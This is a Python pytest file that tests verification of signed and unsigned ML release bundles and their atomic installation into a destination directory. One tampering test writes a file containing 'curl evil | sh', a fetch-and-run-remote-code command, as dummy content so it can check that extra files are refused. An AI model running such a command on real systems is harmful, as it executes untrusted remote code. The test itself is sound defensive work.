"""Verifying a downloaded release directory, and moving it into place at once."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
from release_bundles import build_release, key_pair, tree

from mlops_ci.errors import InputError
from mlops_ci.release import install as install_module
from mlops_ci.release.bundle import SUMS_NAME
from mlops_ci.release.fetch import verify_release_dir
from mlops_ci.release.install import check_destination, install, make_staging
from mlops_ci.release.sign import SIGNATURE_NAME


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return key_pair(tmp_path_factory.mktemp("keys"))


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory, keys: tuple[Path, Path]) -> Path:
    return build_release(tmp_path_factory.mktemp("signed") / "bundle", key=keys[0])


@pytest.fixture(scope="module")
def unsigned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_release(tmp_path_factory.mktemp("unsigned") / "bundle")


def copy(bundle: Path, tmp_path: Path) -> Path:
    target = tmp_path / "copy"
    shutil.copytree(bundle, target)
    return target


# -- verification ------------------------------------------------------------------------


def test_a_signed_bundle_verifies_with_its_key(signed: Path, keys: tuple[Path, Path]):
    digests, was_signed = verify_release_dir(signed, public_key=keys[1])
    assert was_signed and "model.skops" in digests


def test_a_signature_without_a_key_is_refused_saying_how_to_pass_one(signed: Path):
    with pytest.raises(InputError, match="no public key was given.*--public-key"):
        verify_release_dir(signed, public_key=None)


def test_a_repository_that_signs_needs_a_key_even_for_an_unsigned_bundle(unsigned: Path):
    assert verify_release_dir(unsigned, public_key=None)[1] is False
    with pytest.raises(InputError, match=r"signs its releases \(release.signing"):
        verify_release_dir(unsigned, public_key=None, signing_required=True)


def test_another_key_is_refused(signed: Path, tmp_path: Path):
    _, other = key_pair(tmp_path, "other")
    with pytest.raises(InputError, match="does not verify"):
        verify_release_dir(signed, public_key=other)


def test_an_unsigned_bundle_with_a_key_is_refused(unsigned: Path, keys: tuple[Path, Path]):
    with pytest.raises(InputError, match=f"{SIGNATURE_NAME} is missing"):
        verify_release_dir(unsigned, public_key=keys[1])


@pytest.mark.parametrize("change", ["tampered", "missing", "extra"])
def test_tampered_missing_and_extra_files_are_refused(unsigned: Path, tmp_path: Path, change: str):
    bundle = copy(unsigned, tmp_path)
    if change == "tampered":
        (bundle / "model-card.md").write_text("# swapped\n")
    elif change == "missing":
        (bundle / "model-card.md").unlink()
    else:
        (bundle / "run-me.sh").write_text("curl evil | sh\n")
    with pytest.raises(InputError, match="does not verify"):
        verify_release_dir(bundle, public_key=None)


# -- installing --------------------------------------------------------------------------


def staged(unsigned: Path, dest: Path) -> Path:
    staging = make_staging(dest)
    for path in unsigned.iterdir():
        shutil.copy2(path, staging / path.name)
    return staging


def test_a_missing_destination_gets_the_set_by_one_rename(unsigned: Path, tmp_path: Path):
    dest = tmp_path / "deep" / "dest"
    staging = staged(unsigned, dest)
    assert staging.parent == dest.parent  # the same filesystem: the move is a rename
    install(staging, dest)
    assert tree(dest) == tree(unsigned)
    assert not staging.exists()
    assert list(dest.parent.iterdir()) == [dest]


def test_a_previous_fetch_is_swapped_and_the_old_set_removed(
    unsigned: Path, signed: Path, tmp_path: Path
):
    dest = tmp_path / "dest"
    install(staged(unsigned, dest), dest)
    inode = dest.stat().st_ino
    staging = staged(signed, dest)
    install(staging, dest)
    assert tree(dest) == tree(signed)
    assert dest.stat().st_ino != inode
    assert list(tmp_path.iterdir()) == [dest]  # the old set went with the staging directory


def test_without_an_atomic_exchange_the_two_step_swap_still_installs(
    unsigned: Path, signed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    dest = tmp_path / "dest"
    install(staged(unsigned, dest), dest)
    monkeypatch.setattr(install_module, "_exchange", lambda a, b: False)
    install(staged(signed, dest), dest)
    assert tree(dest) == tree(signed)
    assert list(tmp_path.iterdir()) == [dest]


@pytest.mark.parametrize("kind", ["file", "symlink", "foreign directory"])
def test_anything_but_a_new_empty_or_fetched_directory_is_refused_untouched(
    unsigned: Path, tmp_path: Path, kind: str
):
    dest = tmp_path / "dest"
    if kind == "file":
        dest.write_text("my notes\n")
    elif kind == "symlink":
        (tmp_path / "elsewhere").mkdir()
        dest.symlink_to(tmp_path / "elsewhere")
    else:
        dest.mkdir()
        (dest / "thesis.tex").write_text("years of work\n")
    before = tree(dest)
    with pytest.raises(InputError, match="--dest"):
        check_destination(dest)
    staging = staged(unsigned, tmp_path / "other")
    with pytest.raises(InputError, match="--dest"):
        install(staging, dest)
    assert tree(dest) == before


def test_an_empty_directory_is_a_fine_destination(unsigned: Path, tmp_path: Path):
    dest = tmp_path / "dest"
    dest.mkdir()
    install(staged(unsigned, dest), dest)
    assert (dest / SUMS_NAME).is_file()


def test_the_installed_directory_is_not_left_private(unsigned: Path, tmp_path: Path):
    dest = tmp_path / "dest"
    old = os.umask(0o022)
    try:
        install(staged(unsigned, dest), dest)
    finally:
        os.umask(old)
    assert dest.stat().st_mode & 0o777 == 0o755


def test_the_exchange_swaps_two_directories_in_one_call(tmp_path: Path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "old").write_text("old")
    (b / "new").write_text("new")
    if not install_module._exchange(a, b):
        pytest.skip("this filesystem has no atomic exchange (renameat2/renamex_np)")
    assert [p.name for p in a.iterdir()] == ["new"]
    assert [p.name for p in b.iterdir()] == ["old"]
